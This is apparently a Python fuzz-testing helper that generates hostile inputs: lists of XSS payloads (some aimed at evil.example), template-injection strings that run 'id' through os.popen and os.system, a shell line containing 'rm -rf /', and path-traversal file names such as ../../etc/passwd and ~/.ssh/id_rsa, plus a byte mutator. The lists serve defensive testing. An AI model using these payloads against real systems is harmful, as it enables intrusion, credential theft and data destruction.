"""What attackers write: texts and files made here, and what lies in the folder IMAGEGEN_NB_CORPORA names."""

from __future__ import annotations

import itertools
import os
import random
from collections.abc import Iterator
from pathlib import Path

SCRIPTS = [
    "<script>alert(1)</script>",
    "</p></div></td></tr></table><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    '" style="position:fixed;inset:0" onmouseover="alert(1)',
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<form action=//evil.example><input type=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example/x.swf>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x0bscript>alert(1)</script>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "{{constructor.constructor('alert(1)')()}}",
    "$(touch /tmp/pwned) `id` ; rm -rf / | cat",
    "\x1b]0;owned\x07\x1b[2J\x1b[31m",
    "\u202egnp.exe\u2066\u2069",
    "![x](javascript:alert(1)) [y](javascript:alert(1)) $\\href{javascript:alert(1)}{z}$",
]
TEMPLATES = [
    "{{7*7}}",
    "{{ 7 * 7 }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{%25 for x in (1,2) %25}{{x}}{%25 endfor %25}",
    "{{config}}",
    "{{self}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ ''.__class__ }}",
    "{{subject.__class__.__init__.__globals__}}",
    "{{subject.__len__}}",
    "{{items.append}}",
    "{{items.0.__doc__}}",
    "{{items.-1}}",
    "{{items.01}}",
    "{{items.9999999999}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{request.application.__globals__}}",
    '{{#with "s" as |string|}}{{/with}}',
    "{{constructor.constructor('return process')()}}",
    "{{__import__('os').system('id')}}",
    "{{subject|attr('__class__')}}",
    "{{subject!r}}",
    "{{subject:>1000000000}}",
    "{0.__class__}",
    "{subject.__class__}",
    "%(subject)s %s %x",
    "{{{{subject}}}}",
    "{{{subject}}}",
    "{{ {{subject}} }}",
    "{{subject\n}}",
    "{{subject\x00}}",
    "{{\u0455ubject}}",
    "{{subject}}{{",
    "}}{{subject",
    "{!{subject}!}",
    "[[${7*7}]]",
    "*{7*7}",
    "@(7*7)",
    "{php}echo 49;{/php}",
    "{{=<% %>=}}<% subject %>",
    "{{>partial}}",
    "{{&subject}}",
    "{{../subject}}",
    "{{this}}",
    "{{@root}}",
]
NAMES = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\x",
    "~/.ssh/id_rsa",
    ".",
    "..",
    "",
    " ",
    "\x00",
    "a\x00b",
    "CON",
    "nul.png",
    "-rf",
    "--help",
    "a" * 5000,
    ".bashrc",
    "a/../../b",
    "\u202e",
    "\u2028",
    "\ufeff",
    "\U0001f98a" * 300,
    "ﷺ" * 300,
    "İ",
    "ß",
    "a\u0300" * 500,
    "$(id)",
    "`id`",
    "%2e%2e%2f",
]


def given() -> list[Path]:
    """Files of corpora nobody here wrote, where a folder with such is named."""
    folder = os.environ.get("IMAGEGEN_NB_CORPORA")
    return sorted(path for path in Path(folder).rglob("*") if path.is_file()) if folder else []


def given_texts() -> Iterator[str]:
    """The lines of those files that hold text."""
    for path in given():
        data = path.read_bytes()
        if len(data) < 5_000_000 and b"\0" not in data[:1000]:
            yield from filter(None, data.decode(errors="replace").splitlines())


def texts(count: int, seed: int = 1) -> Iterator[str]:
    """`count` hostile texts: each one there is, and then pieces of them put together in new ways."""
    dice, known = random.Random(seed), [*SCRIPTS, *TEMPLATES, *NAMES]
    yield from itertools.islice(itertools.chain(known, given_texts()), count)
    for _ in range(count - len(known)):
        parts = dice.choices(known, k=dice.randint(2, 4))
        cut = [part[dice.randrange(len(part) + 1) :] if dice.random() < 0.4 else part for part in parts]
        yield "".join(
            itertools.chain.from_iterable(zip(cut, dice.choices("\"'<>&/ =\n\t", k=4), strict=False))
        )


def mutants(seeds: list[bytes], count: int, tokens: list[bytes], seed: int = 1) -> Iterator[bytes]:
    """`count` damaged copies of `seeds`: bits turned, pieces cut out, doubled, swapped and put in."""
    dice = random.Random(seed)
    for _ in range(count):
        data = bytearray(dice.choice(seeds))
        for _ in range(dice.choice((1, 1, 1, 2, 3, 8))):
            at = dice.randrange(len(data) + 1)
            end = min(len(data), at + dice.choice((1, 2, 4, 16, 64, 1024)))
            match dice.randrange(7):
                case 0 if data:
                    data[at % len(data)] ^= 1 << dice.randrange(8)
                case 1:
                    del data[at:end]
                case 2:
                    data[at:at] = data[at:end]
                case 3:
                    data[at:at] = dice.choice(tokens)
                case 4:
                    data[at:end] = dice.choice(tokens)
                case 5:
                    del data[at:]
                case _:
                    data[at:at] = dice.randbytes(dice.randrange(1, 9))
        yield bytes(data)
